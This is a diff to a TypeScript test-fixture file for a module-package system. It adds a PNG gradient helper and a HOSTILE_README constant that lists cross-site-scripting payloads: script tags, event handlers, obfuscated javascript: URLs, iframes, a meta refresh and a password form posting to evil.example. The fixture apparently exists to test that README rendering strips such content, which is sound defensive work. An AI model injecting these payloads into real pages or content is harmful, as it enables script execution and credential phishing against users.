@@ -1,4 +1,5 @@
 /** Real module packages for tests, well-formed and hostile. */
+import { PNG } from "pngjs";
 import { buildPackage, type PackageEntry } from "../../../packages/mpkg/src/archive";
 
 export { zip } from "../../../packages/mpkg/src/archive";
@@ -51,3 +52,52 @@ export function declareUncompressedSize(archive: Buffer, entryName: string, size
   if (found !== 2) throw new Error(`No local and central entry '${entryName}'.`);
   return patched;
 }
+
+/** A real PNG of the given size (a gradient, so it does not compress to nothing). */
+export function pngImage(width: number, height: number): Buffer {
+  const image = new PNG({ width, height });
+  for (let at = 0; at < image.data.length; at += 4) {
+    image.data[at] = (at / 4) % 256;
+    image.data[at + 1] = 128;
+    image.data[at + 2] = (at / 7) % 256;
+    image.data[at + 3] = 255;
+  }
+  return PNG.sync.write(image);
+}
+
+/**
+ * A README written to hurt whoever shows it: scripts, handlers, frames, forms, styles, and every
+ * kind of URL that runs code, in raw HTML and in Markdown, next to content that must survive.
+ */
+export const HOSTILE_README = [
+  "# Hostile <script>window.__pwned = 'heading'</script>",
+  "",
+  '<script>window.__pwned = "script"</script>',
+  "",
+  '<img src="x" onerror="window.__pwned = \'onerror\'"> <img src="https://tracker.example/pixel.png" alt="pixel">',
+  "",
+  "[markdown js](javascript:window.__pwned='md-link') [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "",
+  '<a href="JaVaScRiPt:window.__pwned=\'a\'">mixed case</a> <a href="&#106;avascript:window.__pwned=\'entity\'">entity</a>',
+  "",
+  '<iframe src="https://evil.example/"></iframe>',
+  "",
+  "<style>body { display: none }</style>",
+  "",
+  '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
+  "",
+  '<div style="position:fixed;inset:0" onclick="window.__pwned=\'div\'">styled block</div>',
+  "",
+  '<svg onload="window.__pwned=\'svg\'"><script>window.__pwned="svg-script"</script></svg>',
+  "",
+  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
+  "",
+  '<details open ontoggle="window.__pwned=\'details\'"><summary>More</summary>Hidden text</details>',
+  "",
+  "Safe: [the docs](https://docs.example/guide) and `code`.",
+  "",
+  "```js",
+  'const tag = "<script>alert(1)</script>";',
+  "```",
+  "",
+].join("\n");
